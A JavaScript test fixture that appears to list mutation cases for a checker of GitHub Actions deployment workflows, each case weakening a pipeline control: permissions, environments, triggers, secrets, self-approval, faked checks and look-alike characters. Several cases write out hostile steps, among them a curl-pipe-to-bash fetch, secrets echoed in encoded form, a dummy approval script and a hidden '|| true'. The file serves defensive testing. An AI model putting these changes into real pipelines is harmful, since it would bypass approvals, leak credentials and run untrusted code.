// What jobs may do and where they run, what starts workflows, and jobs and workflows beside ours.
import { add, addJob, job, on, one, set, step, stepAfter, stepBefore, within } from '../edits.mjs';
import { checkout, credentials, promote, rollback, smallest, taken, validate, workflow } from '../places.mjs';

const allowed = (id, name, value, file = promote) => on(file, job(id, within('permissions', set(name, value))));
const placed = (id, text, file = promote) => on(file, job(id, set('environment', text)));
const starts = (file, edit) => on(file, within('on', edit));
const deploying = (more) => `name: Beside
on:
  push:
    branches: [main]
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
${more.replace(/^/gm, '    ')}
    steps:
      - uses: ${checkout} # v7.0.1
        with:
          persist-credentials: false
      - uses: ${credentials} # v6.3.0
        with:
          role-to-assume: arn:aws:iam::222222222222:role/orders-production-deploy
          aws-region: eu-west-1
      - run: sam deploy --stack-name orders-production
`;
const beside = (name, text) => add(workflow(name), text);

export const jobs = {
  permissions: [
    { name: 'all rights for all jobs', change: on(promote, set('permissions', 'write-all'), job('build', set('permissions', null))) },
    { name: 'all rights for a job', change: on(promote, job('build', set('permissions', 'write-all'))) },
    { name: 'the default of the repository, for the build', change: on(promote, set('permissions', null), job('build', set('permissions', null))) },
    { name: 'the build can take roles', change: allowed('build', 'id-token', 'write') },
    { name: 'the build can write contents', change: allowed('build', 'contents', 'write') },
    { name: 'the job of the approval can take roles', change: allowed('production-approval', 'id-token', 'write') },
    { name: 'a notice can write records', change: allowed('production-on-request', 'deployments', 'write') },
    { name: 'tests of pull requests can write', change: allowed('unit', 'contents', 'write', validate) },
    { name: 'tests of pull requests can take roles', change: on(validate, job('unit', set('permissions', '{contents: read, id-token: write}'))) },
    { name: 'the required check can write checks', change: on(validate, job('validate', set('permissions', '{checks: write}'))) },
    { name: 'the called workflow gets more', change: on(promote, job('validate', set('permissions', 'write-all'))) },
    { name: 'the rollback can approve', change: allowed('production-rollback', 'actions', 'write') },
    { name: 'all jobs can write actions', change: on(promote, set('permissions', '\nactions: write'), job('production-on-request', set('permissions', null))) },
    { name: 'the search for a target can take roles', change: allowed('production-target', 'id-token', 'write', rollback) },
    { name: 'all rights for all jobs', ...smallest, change: on(promote, set('permissions', 'write-all'), job('pytest-tests', set('permissions', null))) },
    { name: 'the tests can take roles', ...smallest, change: allowed('pytest-tests', 'id-token', 'write') },
  ],

  environments: [
    { name: 'production without its environment', change: placed('production', null), rule: 'production.approve' },
    { name: 'production in that of staging', change: placed('production', 'staging'), rule: 'production.approve' },
    { name: 'production in that of its watch', change: placed('production', '\nname: production-watch\ndeployment: false') },
    { name: 'a calculated environment', change: placed('production', "${{ github.actor == 'release-bot' && 'staging' || 'production' }}"), rule: 'production.approve' },
    { name: 'an environment from a variable', change: placed('production', '\nname: ${{ vars.ENVIRONMENT }}\ndeployment: false'), rule: 'production.approve' },
    { name: 'the approval in an environment that asks nobody', change: placed('production-approval', '\nname: notices\ndeployment: false'), rule: 'production.approve' },
    { name: 'the approval without an environment', change: placed('production-approval', null), rule: 'production.approve' },
    { name: 'an environment that does not exist yet, and so asks nobody', change: placed('production-approval', '\nname: production-approvals\ndeployment: false'), rule: 'production.approve' },
    { name: 'a check in the environment that deploys', change: placed('production-check', 'production') },
    { name: 'the rollback of staging in that of production', change: placed('staging-rollback', '\nname: production-rollback\ndeployment: false') },
    { name: 'the build in the environment of the notices', change: placed('build', '\nname: notices\ndeployment: false') },
    { name: 'tests of pull requests in an environment', change: placed('unit', 'staging', validate) },
    { name: 'a rollback by hand deploys outside its environment', change: placed('production', '\nname: production-rollback\ndeployment: false', rollback), rule: 'production.rollback_by_hand' },
    { name: 'production without its environment', ...smallest, change: placed('production', null), rule: 'production.approve' },
    { name: 'production in that of staging', ...smallest, change: placed('production', 'staging'), rule: 'production.approve' },
    { name: 'the tests in the environment of staging', ...smallest, change: placed('pytest-tests', 'staging') },
  ],

  triggers: [
    { name: 'pull requests promote', change: starts(promote, set('pull_request', '\nbranches: [main]')) },
    { name: 'pull requests of strangers promote, with our rights', change: starts(promote, set('pull_request_target', '{}')) },
    { name: 'every night', change: starts(promote, set('schedule', '\n- cron: "0 3 * * *"')) },
    { name: 'every branch', change: on(promote, set('on', '[push, workflow_dispatch]')), rule: 'staging.trigger' },
    { name: 'one more branch', change: starts(promote, within('push', set('branches', '[develop, main, release]'))), rule: 'staging.trigger' },
    { name: 'a pattern of branches', change: starts(promote, within('push', set('branches', "[develop, main, 'feature/**']"))), rule: 'staging.trigger' },
    { name: 'all branches but one', change: starts(promote, within('push', set('branches', null), set('branches-ignore', '[docs]'))), rule: 'staging.trigger' },
    { name: 'tags', change: starts(promote, within('push', set('tags', "['v*']"))) },
    { name: 'another workflow', change: starts(promote, set('workflow_run', '\nworkflows: [Lint]\ntypes: [completed]')) },
    { name: 'a call from outside', change: starts(promote, set('repository_dispatch', '\ntypes: [deploy]')) },
    { name: 'a comment', change: starts(promote, set('issue_comment', '\ntypes: [created]')) },
    { name: 'a call of another workflow, which strangers can start', change: { ...starts(promote, set('workflow_call', '{}')), ...beside('caller', 'name: Caller\non: pull_request_target\npermissions: write-all\njobs:\n  go:\n    uses: ./.github/workflows/promote.yml\n    secrets: inherit\n') } },
    { name: 'checks of the base branch instead of the pull request', change: on(validate, within('on', (text) => text.replace('pull_request:', 'pull_request_target:'))), rule: 'branch.main.checks.unit' },
    { name: 'checks for one branch alone', change: starts(validate, within('pull_request', set('branches', '[develop]'))), rule: 'branch.main.checks.unit' },
    { name: 'checks when a pull request is opened, not when it changes', change: starts(validate, within('pull_request', set('types', '[opened]'))), rule: 'branch.main.checks.unit' },
    { name: 'checks for some files', change: starts(validate, within('pull_request', set('paths', "['src/**']"))), rule: 'branch.main.checks.unit' },
    { name: 'no checks for some files', change: starts(validate, within('pull_request', set('paths-ignore', "['docs/**']"))), rule: 'branch.main.checks.unit' },
    { name: 'no checks of pull requests', change: starts(validate, set('pull_request', null)), rule: 'branch.main.checks.unit' },
    { name: 'a rollback by hand can be called, and is', change: { ...starts(rollback, set('workflow_call', '\ninputs:\n  environment: {type: string}\n  mode: {type: string}\n  to: {type: string}\n  reason: {type: string}')), ...beside('caller', 'name: Caller\non: push\npermissions: {}\njobs:\n  back:\n    permissions: {contents: read, actions: read, deployments: write, id-token: write}\n    uses: ./.github/workflows/rollback.yml\n    with: {environment: production, mode: alias, reason: automatic}\n') } },
    { name: 'one more branch', ...smallest, change: starts(promote, within('push', set('branches', '[main, "release/**"]'))), rule: 'staging.trigger' },
    { name: 'a manual run of any branch', ...smallest, change: starts(promote, set('workflow_dispatch', '{}')), rule: 'staging.trigger' },
    { name: 'pull requests promote', ...smallest, change: starts(promote, set('pull_request', '{}')), rule: 'staging.trigger' },
  ],

  concurrency: [
    { name: 'a newer run cancels a deployment', change: on(promote, job('production', set('concurrency', '\ngroup: production\ncancel-in-progress: true'))) },
    { name: 'a newer run cancels everything', change: on(promote, set('concurrency', '\ngroup: ${{ github.workflow }}-${{ github.ref }}\ncancel-in-progress: true')) },
    { name: 'a newer run cancels a rollback', change: on(promote, job('production-rollback', set('concurrency', '{group: rollback, cancel-in-progress: true}'))) },
    { name: 'a newer run cancels where an expression says so', change: on(promote, job('staging', set('concurrency', "\ngroup: staging\ncancel-in-progress: ${{ github.ref != 'refs/heads/main' }}"))) },
    { name: 'two deployments at a time', ...smallest, change: on(promote, job('staging', set('concurrency', null))) },
    { name: 'every run has a group of its own', ...smallest, change: on(promote, job('staging', set('concurrency', '\ngroup: deploy-staging-${{ github.run_id }}\nqueue: max'))) },
    { name: 'a newer run cancels a deployment', ...smallest, change: on(promote, job('staging', set('concurrency', '\ngroup: deploy-staging\ncancel-in-progress: true'))) },
  ],

  matrix: [
    { name: 'the required check has another name in a matrix', change: on(validate, job('validate', set('strategy', '\nmatrix:\n  part: [1, 2]'))), rule: 'branch.main.checks.unit' },
    { name: 'a part of the tests', change: on(validate, job('unit', set('strategy', '\nmatrix:\n  part: [a]')), step('unit', 'pytest tests/unit', within('env', set('MARK', '${{ matrix.part }}')))), rule: 'staging.require.unit' },
    { name: 'production is deployed to several environments at once', change: on(promote, job('production', set('strategy', '\nmatrix:\n  place: [production, staging]'), set('environment', '${{ matrix.place }}'))), rule: 'production.approve' },
    { name: 'versions that may fail', change: on(validate, job('unit', set('strategy', "\nfail-fast: false\nmatrix:\n  python: ['3.13', '3.14']"), set('continue-on-error', "${{ matrix.python == '3.13' }}"))), rule: 'staging.require.unit' },
    { name: 'a matrix that may be empty', change: on(promote, job('production-approval', set('strategy', '\nmatrix:\n  place: ${{ fromJSON(vars.PLACES) }}'))) },
  ],

  timeouts: [
    { name: 'no limit of the tests', change: on(validate, job('unit', set('timeout-minutes', null))), rule: 'unit.timeout' },
    { name: 'a longer limit of the tests', change: on(validate, job('unit', set('timeout-minutes', '360'))), rule: 'unit.timeout' },
    { name: 'the rollback is cut off', change: on(promote, job('production-rollback', set('timeout-minutes', '2'))), rule: 'production.rollback' },
    { name: 'the step of the rollback is cut off', change: on(promote, step('staging-rollback', 'Go back to what was live', set('timeout-minutes', '1'))), rule: 'staging.rollback' },
    { name: 'the limit comes from a variable', change: on(validate, job('unit', set('timeout-minutes', '${{ fromJSON(vars.LIMIT) }}'))), rule: 'unit.timeout' },
  ],

  runners: [
    { name: 'a machine of our own deploys', change: on(promote, job('production', set('runs-on', 'self-hosted'))) },
    { name: 'a machine of our own builds', change: on(promote, job('build', set('runs-on', '[self-hosted, linux, x64]'))) },
    { name: 'a group of machines', change: on(promote, job('production', set('runs-on', '\ngroup: company\nlabels: linux'))) },
    { name: 'machines by a variable', change: on(promote, job('production-approval', set('runs-on', '${{ vars.RUNNER }}'))) },
    { name: 'machines by an unknown label', change: on(validate, job('unit', set('runs-on', 'company-linux'))) },
    { name: 'in an image', change: on(promote, job('production', set('container', 'public.ecr.aws/company/tools:latest'))) },
    { name: 'in an image that strangers could change', change: on(validate, job('validate', set('container', '\nimage: company/jq'))) },
    { name: 'with a service beside', change: on(promote, job('production', set('services', '\nproxy:\n  image: company/proxy:1'))) },
    { name: 'with options of the container', change: on(promote, job('build', set('container', '\nimage: debian:12\noptions: --privileged'))) },
    { name: 'a machine of our own deploys', ...smallest, change: on(promote, job('production', set('runs-on', 'self-hosted'))) },
  ],

  secrets: [
    { name: 'the checks get all secrets', change: on(promote, job('validate', set('secrets', 'inherit'))) },
    { name: 'a secret for all jobs', change: on(promote, within('env', set('TOKEN', '${{ secrets.ADMIN_TOKEN }}'))) },
    { name: 'a token of a person', change: on(promote, step('production', 'The approvals are complete', within('env', set('GH_TOKEN', '${{ secrets.ADMIN_TOKEN }}')))) },
    { name: 'tests of pull requests get a secret', change: on(validate, step('unit', 'pytest tests/unit', within('env', set('API_KEY', '${{ secrets.API_KEY }}')))) },
    { name: 'all secrets as a text', change: on(promote, step('production-on-request', 'chat', within('env', set('ALL', '${{ toJSON(secrets) }}')))) },
    { name: 'a value where only its presence is asked', change: on(promote, step('secrets-set', 'Every secret has a value', within('env', set('SET_SLACK_WEBHOOK', '${{ secrets.SLACK_WEBHOOK }}')))), rule: 'secrets-set.slack_hook' },
    { name: 'a secret is said to be set', change: on(promote, step('secrets-set', 'Every secret has a value', within('env', set('SET_SLACK_WEBHOOK', "'true'")))), rule: 'secrets-set.slack_hook' },
    { name: 'one secret less is looked at', change: on(promote, step('secrets-set', 'Every secret has a value', within('env', set('NAMES', 'EMAIL_USERNAME EMAIL_PASSWORD')))), rule: 'secrets-set.slack_hook' },
    { name: 'a secret goes to another server', change: on(promote, step('production-on-failed', 'mail', within('env', set('SERVER', 'smtp.example.com')))) },
    { name: 'a secret by a calculated name', change: on(promote, step('production-on-request', 'mail', within('env', set('SMTP_PASSWORD', "${{ secrets[format('{0}_KEY', 'AWS')] }}")))) },
    { name: 'a secret in a message', change: on(promote, step('production-on-request', 'chat', within('env', set('MESSAGE', "'key ${{ secrets.EMAIL_PASSWORD }}'")))) },
    { name: 'keys instead of a role', ...smallest, change: on(promote, step('production', 'Take the role shop-production-deploy', within('with', set('aws-access-key-id', '${{ secrets.AWS_KEY }}'), set('aws-secret-access-key', '${{ secrets.AWS_SECRET }}'), set('role-to-assume', null)))) },
  ],

  'steps beside ours': [
    { name: 'a program of others in the job that deploys', change: on(promote, stepBefore('production', 'Deploy', 'name: Scan\nrun: curl -sSf https://example.com/scan.sh | bash')) },
    { name: 'an action of others where credentials are', change: on(promote, stepAfter('production', taken, 'name: Notify\nuses: company/notify@0123456789abcdef0123456789abcdef01234567')) },
    { name: 'an approval is written into the job', change: on(promote, stepBefore('production-approval', 'Who approved', 'name: Approve\nrun: gh api -X POST "repos/$GITHUB_REPOSITORY/actions/runs/$GITHUB_RUN_ID/pending_deployments" -f state=approved\nenv:\n  GH_TOKEN: ${{ secrets.APPROVER }}')) },
    { name: 'text of a pull request is run', change: on(validate, stepBefore('unit', 'pytest tests/unit', 'name: Title\nrun: echo "${{ github.event.pull_request.title }}"')) },
    { name: 'the tests are changed before they run', change: on(validate, stepBefore('unit', 'pytest tests/unit', 'name: Only what is quick\nrun: rm -rf tests/unit/slow')) },
    { name: 'code beside, in the verification', change: on(promote, stepBefore('production-verify', 'answers (production)', 'name: Warm up\nrun: bash scripts/warm-up.sh')) },
    { name: 'a deployment in the job of the approval', change: on(promote, stepAfter('production-approval', 'Who approved', 'name: Early\nrun: sam deploy --stack-name orders-production')) },
    { name: 'a release in the same job', ...smallest, change: on(promote, stepBefore('production', 'Deploy', 'name: Migrate\nrun: python migrate.py')) },
  ],

  'jobs beside ours': [
    { name: 'another job deploys to production', change: on(promote, addJob(`quick:\n  name: Quick\n  needs: build\n  if: github.actor == 'admin'\n  runs-on: ubuntu-24.04\n  environment: production\n  permissions:\n    contents: read\n    id-token: write\n  steps:\n    - uses: ${credentials} # v6.3.0\n      with:\n        role-to-assume: arn:aws:iam::222222222222:role/orders-production-deploy\n        aws-region: eu-west-1\n    - run: sam deploy --stack-name orders-production`)) },
    { name: 'another job takes roles', change: on(promote, addJob(`extra:\n  needs: build\n  runs-on: ubuntu-24.04\n  permissions:\n    id-token: write\n  steps:\n    - run: echo hello`)) },
    { name: 'another job is in the environment of the rollback', change: on(promote, addJob('peek:\n  runs-on: ubuntu-24.04\n  environment: production-rollback\n  permissions: {}\n  steps:\n    - run: env')) },
    { name: 'another job in an environment that is calculated', change: on(promote, addJob('peek:\n  runs-on: ubuntu-24.04\n  environment: ${{ github.event.inputs.place }}\n  permissions: {}\n  steps:\n    - run: env')) },
    { name: 'another job with the name of the one that writes records', change: on(promote, addJob('other:\n  name: Deploy to production\n  runs-on: ubuntu-24.04\n  permissions: {}\n  steps:\n    - run: sleep 60')) },
    { name: 'another job with the name of the required check', change: on(validate, addJob('quick:\n  name: validate\n  runs-on: ubuntu-24.04\n  permissions: {}\n  steps:\n    - run: echo fine')), rule: 'branch.main.checks.unit' },
    { name: 'another job reads secrets', change: on(promote, addJob('mail:\n  runs-on: ubuntu-24.04\n  environment: notices\n  permissions: {}\n  steps:\n    - run: echo "$KEY" | base64\n      env:\n        KEY: ${{ secrets.EMAIL_PASSWORD }}')) },
    { name: 'another job with all rights', change: on(validate, addJob('label:\n  runs-on: ubuntu-24.04\n  permissions: write-all\n  steps:\n    - run: echo fine')) },
    { name: 'another job with the rights to write records', change: on(promote, addJob('record:\n  runs-on: ubuntu-24.04\n  permissions:\n    deployments: write\n  steps:\n    - run: gh api "repos/$GITHUB_REPOSITORY/deployments" -f ref=main -f environment=production')) },
    { name: 'another job deploys to production', ...smallest, change: on(promote, (text) => `${text.trimEnd()}\n\n  hotfix:\n    runs-on: ubuntu-24.04\n    environment: production\n    permissions:\n      id-token: write\n      contents: read\n    steps:\n      - run: sam deploy\n`) },
  ],

  'workflows beside ours': [
    { name: 'deploys in the environment', change: beside('beside', deploying('environment: production\npermissions:\n  contents: read\n  id-token: write')) },
    { name: 'takes the role without the environment', change: beside('beside', deploying('permissions:\n  contents: read\n  id-token: write')) },
    { name: 'takes a role by rights of the whole workflow', change: beside('beside', deploying('timeout-minutes: 5').replace('permissions: {}', 'permissions: write-all')) },
    { name: 'deploys with keys', change: beside('beside', 'name: Keys\non: push\npermissions:\n  contents: read\njobs:\n  deploy:\n    runs-on: ubuntu-24.04\n    env:\n      AWS_ACCESS_KEY_ID: ${{ secrets.AWS_ACCESS_KEY_ID }}\n      AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}\n    steps:\n      - uses: actions/checkout@v7\n      - run: sam deploy --stack-name orders-production --region eu-west-1\n') },
    { name: 'is in the environment of the rollback', change: beside('beside', 'name: Peek\non: workflow_dispatch\npermissions:\n  id-token: write\njobs:\n  peek:\n    runs-on: ubuntu-24.04\n    environment: production-rollback\n    steps:\n      - run: env\n') },
    { name: 'is in an environment from a form', change: beside('beside', 'name: Any\non:\n  workflow_dispatch:\n    inputs:\n      place: {type: environment}\npermissions:\n  id-token: write\njobs:\n  any:\n    runs-on: ubuntu-24.04\n    environment: ${{ inputs.place }}\n    steps:\n      - run: env\n') },
    { name: 'reads the secrets of the notices', change: beside('beside', 'name: Mail\non: push\npermissions: {}\njobs:\n  mail:\n    runs-on: ubuntu-24.04\n    environment: notices\n    steps:\n      - run: echo "$P" | rev\n        env:\n          P: ${{ secrets.EMAIL_PASSWORD }}\n') },
    { name: 'has a job with the name of the required check', change: beside('quick', 'name: Quick\non: pull_request\npermissions: {}\njobs:\n  validate:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo fine\n'), rule: 'branch.main.checks.unit' },
    { name: 'has a job that is called like the required check', change: beside('quick', 'name: Quick\non:\n  pull_request:\n    paths: [docs/**]\npermissions: {}\njobs:\n  docs:\n    name: validate\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo fine\n'), rule: 'branch.main.checks.unit' },
    { name: 'writes the required check itself', change: beside('quick', 'name: Quick\non: pull_request_target\npermissions:\n  checks: write\njobs:\n  green:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: gh api "repos/$GITHUB_REPOSITORY/check-runs" -f name=validate -f head_sha="$SHA" -f status=completed -f conclusion=success\n        env:\n          GH_TOKEN: ${{ github.token }}\n          SHA: ${{ github.event.pull_request.head.sha }}\n'), rule: 'branch.main.checks.unit' },
    { name: 'changes settings by the API', change: beside('settings', 'name: Settings\non: push\npermissions: {}\njobs:\n  open:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: gh api -X PUT "repos/$GITHUB_REPOSITORY/environments/production" -f wait_timer=0\n        env:\n          GH_TOKEN: ${{ secrets.ADMIN_TOKEN }}\n') },
    { name: 'approves what waits', change: beside('approve', 'name: Approve\non:\n  workflow_run:\n    workflows: [Promote orders]\n    types: [requested]\npermissions: {}\njobs:\n  approve:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: gh api -X POST "repos/$GITHUB_REPOSITORY/actions/runs/$RUN/pending_deployments" -F "environment_ids[]=1" -f state=approved -f comment=ok\n        env:\n          RUN: ${{ github.event.workflow_run.id }}\n          GH_TOKEN: ${{ secrets.LEAD_TOKEN }}\n') },
    { name: 'deploys after any run of the checks', change: beside('after', 'name: After\non:\n  workflow_run:\n    workflows: [Validate]\n    types: [completed]\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-24.04\n    environment: staging\n    permissions:\n      id-token: write\n    steps:\n      - run: sam deploy --stack-name orders-staging\n') },
    { name: 'runs code of strangers with secrets', change: beside('pr', 'name: PR\non: pull_request_target\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    environment: staging\n    steps:\n      - uses: actions/checkout@v7\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n') },
    { name: 'is a copy without approvals', change: add('.github/workflows/promote.yaml', 'name: Promote orders\non: workflow_dispatch\npermissions: {}\njobs:\n  production:\n    name: Deploy to production\n    runs-on: ubuntu-24.04\n    environment:\n      name: production\n      deployment: false\n    permissions:\n      id-token: write\n      contents: read\n    steps:\n      - run: sam deploy --stack-name orders-production\n') },
    { name: 'calls a workflow that takes roles', change: { ...beside('caller', 'name: Caller\non: push\npermissions:\n  id-token: write\n  contents: read\njobs:\n  go:\n    uses: ./.github/workflows/called.yml\n'), ...beside('called', 'name: Called\non: workflow_call\njobs:\n  go:\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n      - run: sam deploy\n') } },
    { name: 'calls a workflow of others with our rights', change: beside('caller', 'name: Caller\non: push\npermissions:\n  id-token: write\n  contents: read\njobs:\n  go:\n    uses: company/workflows/.github/workflows/deploy.yml@main\n    secrets: inherit\n') },
    { name: 'has the default rights of the repository and an environment', change: beside('beside', 'name: Site\non: push\njobs:\n  site:\n    runs-on: ubuntu-24.04\n    environment:\n      name: production\n      url: https://example.com\n    steps:\n      - run: make site\n') },
    { name: 'deploys in the environment', ...smallest, change: beside('beside', deploying('environment: production\npermissions:\n  contents: read\n  id-token: write')) },
    { name: 'is in the environment of staging', ...smallest, change: beside('beside', 'name: Night\non:\n  schedule:\n    - cron: "0 3 * * *"\npermissions: {}\njobs:\n  night:\n    runs-on: ubuntu-24.04\n    environment: staging\n    permissions:\n      id-token: write\n    steps:\n      - run: sam delete --no-prompts\n') },
  ],

  'called workflow swapped': [
    { name: 'one that checks nothing', change: { ...on(promote, job('validate', set('uses', './.github/workflows/fast.yml'))), ...beside('fast', 'name: Fast\non: workflow_call\npermissions: {}\njobs:\n  fast:\n    runs-on: ubuntu-24.04\n    permissions: {}\n    steps:\n      - run: echo fine\n') }, rule: 'staging.require.unit' },
    { name: 'one of another repository', change: on(promote, job('validate', set('uses', 'company/workflows/.github/workflows/validate.yml@main'))), rule: 'staging.require.unit' },
    { name: 'one of another repository, pinned', change: on(promote, job('validate', set('uses', 'company/workflows/.github/workflows/validate.yml@0123456789abcdef0123456789abcdef01234567'))), rule: 'staging.require.unit' },
    { name: 'steps of its own instead of the call', change: on(promote, job('validate', set('uses', null), set('runs-on', 'ubuntu-24.04'), set('steps', '\n- run: echo fine'))), rule: 'staging.require.unit' },
    { name: 'the call is skipped for manual runs, and the build does not mind', change: on(promote, job('validate', set('if', "github.event_name == 'push'")), job('build', set('if', "always() && needs.validate.result != 'failure'"))), rule: 'staging.require.unit' },
    { name: 'a job of the called workflow is skipped, and its sum does not mind', change: on(validate, job('unit', set('if', "github.event_name == 'pull_request'")), step('validate', 'Every check passed', within('run', one('all(.[]; .result == "success")', 'all(.[]; .result == "success" or .result == "skipped")')))), rule: 'staging.require.unit' },
  ],

  'doubled keys': [
    { name: 'needs, a second time', change: on(promote, within('jobs', within('production', (text) => `${text}\nneeds: build`))) },
    { name: 'if, a second time', change: on(promote, within('jobs', within('production-check', (text) => `${text}\nif: always()`))) },
    { name: 'a job, a second time', change: on(promote, addJob('production:\n  runs-on: ubuntu-24.04\n  steps:\n    - run: echo fine')) },
    { name: 'run, a second time', change: on(promote, step('production', 'The approvals are complete', (text) => `${text}\nrun: echo fine`)) },
    { name: 'permissions, a second time', change: on(promote, (text) => `${text.trimEnd()}\n\npermissions: write-all\n`) },
    { name: 'on, a second time, in quotes', change: on(promote, (text) => `${text.trimEnd()}\n\n"on": [push, pull_request_target]\n`) },
  ],

  'anchors and merge keys': [
    { name: 'production has the environment of staging by its anchor', change: on(promote, job('staging', set('environment', '&place\nname: staging\ndeployment: false'.replace('&place\n', '&place\n  ').replace('\ndeployment', '\n  deployment'))), job('production', set('environment', '*place'))), rule: 'production.approve' },
    { name: 'the steps of production are those of the build', change: on(promote, job('build', (text) => text.replace('\nsteps:', '\nsteps: &steps')), job('production', set('steps', '*steps'))) },
    { name: 'a merge key brings rights', change: on(promote, job('production', (text) => text.replace('permissions:', 'permissions: &rights')), job('build', set('permissions', '\n<<: *rights'))) },
    { name: 'a merge key over a whole job', change: on(promote, job('staging', (text) => text.replace('env:', 'env: &values')), job('production', (text) => text.replace('env:', 'env:\n  <<: *values'))) },
    { name: 'an alias that does not exist', change: on(promote, job('production', set('needs', '*nothing'))) },
  ],

  'letters that look alike': [
    { name: 'the environment', change: placed('production', '\nname: "pr\u043eduction"\ndeployment: false'), rule: 'production.approve' },
    { name: 'the branch of the environment', change: on('.github/promoc/settings/production.json', one('"name": "main"', '"name": "m\u0430in"')), rule: 'production.trigger' },
    { name: 'the branch of the check', change: on(promote, job('production-check', set('if', "github.ref == 'refs/heads/main' || github.ref == 'refs/heads/m\u0430in'"))), rule: 'production.trigger' },
    { name: 'the team that reviews', change: on('.github/promoc/settings/production.json', one('devops-admin', 'dev\u043eps-admin')), rule: 'production.approve' },
    { name: 'the script', change: { ...on(promote, step('production', 'The approvals are complete', set('run', 'bash .github/promoc/\u0430pprovals.sh'))), ...add('.github/promoc/\u0430pprovals.sh', '#!/usr/bin/env bash\nexit 0\n') }, rule: 'production.approve' },
    { name: 'an invisible letter in the slot', change: on(promote, step('production', 'The approvals are complete', within('env', one('"environment":"production-approval"', '"environment":"production-approval\u200b"')))), rule: 'production.approve' },
    { name: 'a blank that is none, in a condition', change: on(promote, job('production-check', set('if', "github.ref == 'refs/heads/main'\u00a0|| true"))), rule: 'production.trigger' },
    { name: 'text that runs from right to left, in a command', change: on(promote, step('production', 'The approvals are complete', set('run', 'bash .github/promoc/approvals.sh \u202e|| true'))), rule: 'production.approve' },
  ],
};
